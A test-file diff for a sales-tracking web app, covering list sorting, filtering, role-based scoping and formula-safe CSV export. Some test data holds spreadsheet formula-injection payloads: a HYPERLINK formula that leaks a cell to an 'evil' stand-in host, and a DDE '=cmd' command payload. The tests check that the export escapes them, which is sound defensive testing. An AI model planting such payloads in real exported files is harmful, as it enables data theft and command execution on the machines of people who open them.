@@ -1,0 +1,295 @@
+"""Every list sorts and filters through listing.py: the accounts, deals and stakeholders
+lists, row order per sort, each filter, the note for an unknown sort or filter value,
+and the CSV download of the same filters (all rows, formula-safe, scoped)."""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+from datetime import UTC, date, datetime
+from decimal import Decimal
+from typing import Any
+
+from sqlmodel import Session
+
+from valuetracker.models import Deal, Stakeholder
+
+from .factories import make_account, make_competitor, make_deal, make_stakeholder
+from .rendered import page_html, page_text
+
+
+def _rows(html: str, table: str) -> list[str]:
+    """The first link's text of each row of the table with id `table`, in page order."""
+    body = html.split(f'id="{table}"', 1)[1].split("</tbody>", 1)[0]
+    return [re.sub(r"<[^>]+>", "", m).strip()
+            for m in re.findall(r"<tr><td><a [^>]*>(.*?)</a>", body)]
+
+
+def _csv(client: Any, url: str) -> list[dict[str, str]]:
+    response = client.get(url)
+    assert response.status_code == 200, response.status_code
+    assert response.mimetype == "text/csv"
+    assert "attachment" in response.headers["Content-Disposition"]
+    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
+
+
+def _csv_link(html: str) -> str:
+    href = re.search(r'id="download-csv" href="([^"]+)"', html).group(1)
+    return href.replace("&amp;", "&")
+
+
+# --- deals ------------------------------------------------------------------------------
+
+
+def _deals(session: Session, cast: Any) -> dict[str, Deal]:
+    oracle = make_competitor(session, "Oracle")
+    sap = make_competitor(session, "SAP")
+    deals = {
+        "Alpha": make_deal(session, cast.account1, "won", date(2026, 3, 1), name="Alpha",
+                           amount=Decimal("5000"), product="Core", owner_id=cast.am1.id,
+                           competitors=(oracle,)),
+        "Bravo": make_deal(session, cast.account1, "lost", date(2026, 6, 1), name="Bravo",
+                           amount=Decimal("25000"), product="Analytics",
+                           owner_name="Rita Rep", competitors=(sap,)),
+        "Charlie": make_deal(session, cast.account1, "open", None, name="Charlie",
+                             amount=Decimal("12000"), product="Core", owner_id=cast.am1.id),
+        "Delta": make_deal(session, cast.account2, "won", date(2026, 9, 1), name="Delta",
+                           amount=Decimal("40000"), product="Core", owner_id=cast.am2.id,
+                           competitors=(oracle,)),
+    }
+    session.commit()
+    return deals
+
+
+def test_deals_sort_by_close_date_amount_and_name(session: Session, cast: Any,
+                                                  login_as: Any) -> None:
+    _deals(session, cast)
+    client = login_as(cast.leader)
+    cases = {
+        "": ["Charlie", "Delta", "Bravo", "Alpha"],  # open first, then newest close
+        "?sort=closed": ["Alpha", "Bravo", "Delta", "Charlie"],
+        "?sort=-closed": ["Charlie", "Delta", "Bravo", "Alpha"],
+        "?sort=amount": ["Alpha", "Charlie", "Bravo", "Delta"],
+        "?sort=-amount": ["Delta", "Bravo", "Charlie", "Alpha"],
+        "?sort=name": ["Alpha", "Bravo", "Charlie", "Delta"],
+        "?sort=-name": ["Delta", "Charlie", "Bravo", "Alpha"],
+    }
+    for query, expected in cases.items():
+        assert _rows(page_html(client, "/deals" + query), "deal-list") == expected, query
+
+
+def test_deals_filters(session: Session, cast: Any, login_as: Any) -> None:
+    deals = _deals(session, cast)
+    oracle = deals["Alpha"].primary_competitor_id
+    client = login_as(cast.leader)
+    cases = {
+        f"owner={cast.am1.id}": ["Alpha", "Charlie"],
+        "owner=name:Rita Rep": ["Bravo"],
+        "outcome=won": ["Alpha", "Delta"],
+        "closed_from=2026-05-01&closed_to=2026-09-01": ["Bravo", "Delta"],
+        "closed_to=2026-05-31": ["Alpha"],
+        "product=Core": ["Alpha", "Charlie", "Delta"],
+        f"competitor={oracle}": ["Alpha", "Delta"],
+        "amount_min=10000&amount_max=30000": ["Bravo", "Charlie"],
+        "amount_min=12000.00": ["Bravo", "Charlie", "Delta"],
+        "product=Core&outcome=won&sort=-amount": ["Delta", "Alpha"],
+    }
+    for query, expected in cases.items():
+        html = page_html(client, "/deals?" + query + ("" if "sort=" in query else
+                                                      "&sort=name"))
+        assert _rows(html, "deal-list") == expected, query
+        assert "list-note" not in html, query
+
+
+def test_deals_unknown_values_are_ignored_with_a_note(session: Session, cast: Any,
+                                                     login_as: Any) -> None:
+    _deals(session, cast)
+    client = login_as(cast.leader)
+    html = page_html(client, "/deals?sort=margin&outcome=maybe&product=Nope"
+                             "&closed_from=2026-13-01&amount_min=lots&colour=red")
+    text = page_text(html)
+    assert "Sorting by “margin” isn't available; sorted by close date, descending." in text
+    assert "“maybe” isn't a value of the outcome filter; ignored." in text
+    assert "“Nope” isn't a value of the product filter; ignored." in text
+    assert "“2026-13-01” isn't a date (use YYYY-MM-DD); the closed from filter is ignored." \
+        in text
+    assert "“lots” isn't an amount; the amount from filter is ignored." in text
+    assert "There is no filter “colour” on this list; ignored." in text
+    # Nothing was filtered: every deal, in the default order.
+    assert _rows(html, "deal-list") == ["Charlie", "Delta", "Bravo", "Alpha"]
+    # The links of the page leave the ignored values out.
+    assert "margin" not in _csv_link(html) and "maybe" not in _csv_link(html)
+
+
+def test_deals_csv_equals_the_filtered_list_all_pages(session: Session, cast: Any,
+                                                      login_as: Any) -> None:
+    for n in range(55):  # more than one page (50)
+        make_deal(session, cast.account1, "won", date(2026, 1, 1), name=f"Bulk {n:02d}",
+                  amount=Decimal(n), product="Bulk")
+    make_deal(session, cast.account1, "lost", date(2026, 1, 1), name="Other", product="X")
+    session.commit()
+    client = login_as(cast.leader)
+    html = page_html(client, "/deals?product=Bulk&sort=-amount")
+    assert len(_rows(html, "deal-list")) == 50
+    link = _csv_link(html)
+    assert "format=csv" in link and "product=Bulk" in link and "sort=-amount" in link
+    rows = _csv(client, link)
+    assert [r["Deal"] for r in rows] == [f"Bulk {n:02d}" for n in range(54, -1, -1)]
+    assert rows[0]["Amount"] == "54.00" and rows[0]["Outcome"] == "won"
+    assert set(rows[0]) == {"Deal", "Account", "Outcome", "Amount", "Product", "Owner",
+                            "Primary competitor", "Opened", "Closed", "External id"}
+
+
+def test_deals_csv_is_formula_safe(session: Session, cast: Any, login_as: Any) -> None:
+    make_deal(session, cast.account1, "won", date(2026, 2, 1),
+              name='=HYPERLINK("http://evil/?"&A1)', product="+cmd", amount=Decimal("-5"))
+    session.commit()
+    client = login_as(cast.am1)
+    [row] = _csv(client, "/deals?format=csv")
+    assert row["Deal"] == "'=HYPERLINK(\"http://evil/?\"&A1)"
+    assert row["Product"] == "'+cmd"
+    assert row["Amount"] == "-5.00"  # a number stays a number
+
+
+def test_deals_csv_is_scoped(session: Session, cast: Any, login_as: Any) -> None:
+    _deals(session, cast)
+    rows = _csv(login_as(cast.am1), "/deals?format=csv&sort=name")
+    assert [r["Deal"] for r in rows] == ["Alpha", "Bravo", "Charlie"]  # not Delta (Globex)
+    assert {r["Account"] for r in rows} == {"Acme Corp"}
+    assert [r["Owner"] for r in rows] == ["Alice Manager", "Rita Rep", "Alice Manager"]
+
+
+# --- accounts ---------------------------------------------------------------------------
+
+
+def test_accounts_unknown_sort_is_ignored_with_a_note(session: Session, cast: Any,
+                                                      login_as: Any) -> None:
+    client = login_as(cast.leader)
+    text = page_text(page_html(client, "/accounts?sort=margin"))
+    assert "Sorting by “margin” isn't available; sorted by name." in text
+    assert "list-note" not in page_html(client, "/accounts?sort=-revenue")
+    text = page_text(page_html(client, "/accounts?tier=gold&owner=999"))
+    assert "“gold” isn't a value of the tier filter; ignored." in text
+    assert "“999” isn't a value of the owner filter; ignored." in text
+
+
+def test_accounts_sort_filter_and_csv(session: Session, cast: Any, login_as: Any) -> None:
+    make_account(session, "Initech", owner=cast.am1, segment="SMB",
+                 annual_revenue=Decimal("5000"), renewal_date=date(2027, 1, 1))
+    make_account(session, "@Evil Co", owner=cast.am1, segment="SMB", annual_revenue=None)
+    session.commit()
+    client = login_as(cast.leader)
+    html = page_html(client, "/accounts?sort=-revenue")
+    names = re.findall(r'<td><a href="/accounts/[^"]+">([^<]+)</a>', html)
+    assert names == ["Acme Corp", "Globex", "Initech", "@Evil Co"]  # no revenue: last
+    html = page_html(client, "/accounts?segment=SMB&sort=name")
+    rows = _csv(client, _csv_link(html))
+    assert [r["Name"] for r in rows] == ["'@Evil Co", "Initech"]
+    assert rows[1]["Annual revenue"] == "5000.00" and rows[1]["Renewal date"] == "2027-01-01"
+    assert rows[1]["Owner"] == "Alice Manager"
+
+
+def test_account_managers_csv_holds_only_their_accounts(session: Session, cast: Any,
+                                                        login_as: Any) -> None:
+    rows = _csv(login_as(cast.am1), "/accounts?format=csv")
+    assert [r["Name"] for r in rows] == ["Acme Corp"]
+    # am1 owns none of am2's accounts: that owner filter is ignored, the scope stays.
+    rows = _csv(login_as(cast.am2), f"/accounts?format=csv&owner={cast.am1.id}")
+    assert [r["Name"] for r in rows] == ["Globex"]
+    rows = _csv(login_as(cast.leader), f"/accounts?format=csv&owner={cast.am1.id}")
+    assert [r["Name"] for r in rows] == ["Acme Corp"]
+
+
+# --- stakeholders across accounts --------------------------------------------------------
+
+
+def _people(session: Session, cast: Any) -> dict[str, Stakeholder]:
+    now = datetime(2026, 11, 1, tzinfo=UTC)
+    third = make_account(session, "Umbrella", owner=cast.am1)
+    people = {
+        "Erin": make_stakeholder(session, cast.account1, "Erin Evaluator", influence=2,
+                                 buying_role="evaluator", sentiment="skeptic",
+                                 last_contacted_on=date(2026, 10, 1)),
+        "Fred": make_stakeholder(session, third, "Fred Finance", influence=5,
+                                 buying_role="economic_buyer", sentiment="advocate",
+                                 left_company_at=now, last_contacted_on=date(2026, 6, 1)),
+        "Gail": make_stakeholder(session, third, "Gail Gone", influence=4, opted_out_at=now,
+                                 sentiment="skeptic"),
+        "Zed": make_stakeholder(session, cast.account1, "Zed Erased", erased_at=now),
+    }
+    cast.stakeholder1.influence = 3
+    cast.stakeholder1.last_contacted_on = date(2026, 11, 20)
+    session.add(cast.stakeholder1)
+    session.commit()
+    return people
+
+
+def test_stakeholders_sorts(session: Session, cast: Any, login_as: Any) -> None:
+    _people(session, cast)
+    client = login_as(cast.am1)
+    cases = {
+        "": ["Carol Buyer", "Erin Evaluator", "Fred Finance", "Gail Gone"],
+        "?sort=-name": ["Gail Gone", "Fred Finance", "Erin Evaluator", "Carol Buyer"],
+        "?sort=account": ["Carol Buyer", "Erin Evaluator", "Fred Finance", "Gail Gone"],
+        "?sort=-account": ["Fred Finance", "Gail Gone", "Carol Buyer", "Erin Evaluator"],
+        "?sort=-influence": ["Fred Finance", "Gail Gone", "Carol Buyer", "Erin Evaluator"],
+        "?sort=contacted": ["Fred Finance", "Erin Evaluator", "Carol Buyer", "Gail Gone"],
+        "?sort=-contacted": ["Carol Buyer", "Erin Evaluator", "Fred Finance", "Gail Gone"],
+    }
+    for query, expected in cases.items():
+        html = page_html(client, "/stakeholders" + query)
+        assert _rows(html, "people-list") == expected, query
+
+
+def test_stakeholders_filters_scope_and_erased(session: Session, cast: Any,
+                                               login_as: Any) -> None:
+    _people(session, cast)
+    client = login_as(cast.am1)
+    cases = {
+        f"account={cast.account1.id}": ["Carol Buyer", "Erin Evaluator"],
+        "role=economic_buyer": ["Carol Buyer", "Fred Finance"],
+        "key=yes": ["Carol Buyer"],
+        "key=no": ["Erin Evaluator", "Fred Finance", "Gail Gone"],
+        "sentiment=skeptic": ["Erin Evaluator", "Gail Gone"],
+        "left=yes": ["Fred Finance"],
+        "left=no&opted_out=no": ["Carol Buyer", "Erin Evaluator"],
+        "opted_out=yes": ["Gail Gone"],
+        "q=finance": ["Fred Finance"],
+    }
+    for query, expected in cases.items():
+        html = page_html(client, "/stakeholders?" + query)
+        assert _rows(html, "people-list") == expected, query
+        assert "list-note" not in html
+    # Never an erased person, never another manager's account's people (Dan Champion).
+    names = [r["Name"] for r in _csv(client, "/stakeholders?format=csv")]
+    assert names == ["Carol Buyer", "Erin Evaluator", "Fred Finance", "Gail Gone"]
+    text = page_text(page_html(client, f"/stakeholders?account={cast.account2.id}&key=maybe"))
+    assert f"“{cast.account2.id}” isn't a value of the account filter; ignored." in text
+    assert "“maybe” isn't a value of the key filter; ignored." in text
+    assert [r["Name"] for r in _csv(login_as(cast.leader), "/stakeholders?format=csv")] == [
+        "Carol Buyer", "Dan Champion", "Erin Evaluator", "Fred Finance", "Gail Gone"]
+
+
+def test_stakeholders_csv_equals_the_filtered_list(session: Session, cast: Any,
+                                                   login_as: Any) -> None:
+    _people(session, cast)
+    make_stakeholder(session, cast.account1, "-Minus Person", title="=cmd|' /C calc'!A0",
+                     sentiment="skeptic")
+    session.commit()
+    client = login_as(cast.am1)
+    html = page_html(client, "/stakeholders?sentiment=skeptic&sort=-influence")
+    shown = _rows(html, "people-list")
+    rows = _csv(client, _csv_link(html))
+    assert [r["Name"].removeprefix("'") for r in rows] == shown
+    assert shown == ["Gail Gone", "-Minus Person", "Erin Evaluator"]
+    minus = rows[1]
+    assert minus["Name"] == "'-Minus Person" and minus["Title"] == "'=cmd|' /C calc'!A0"
+    gail = rows[0]
+    assert gail["Opted out"] == "yes" and gail["Left"] == "no" and gail["Influence"] == "4"
+    assert gail["Account"] == "Umbrella"
+
+
+def test_stakeholders_page_is_in_the_menu(session: Session, cast: Any, login_as: Any) -> None:
+    for user in (cast.am1, cast.analyst, cast.leader):
+        assert 'href="/stakeholders"' in page_html(login_as(user), "/accounts")
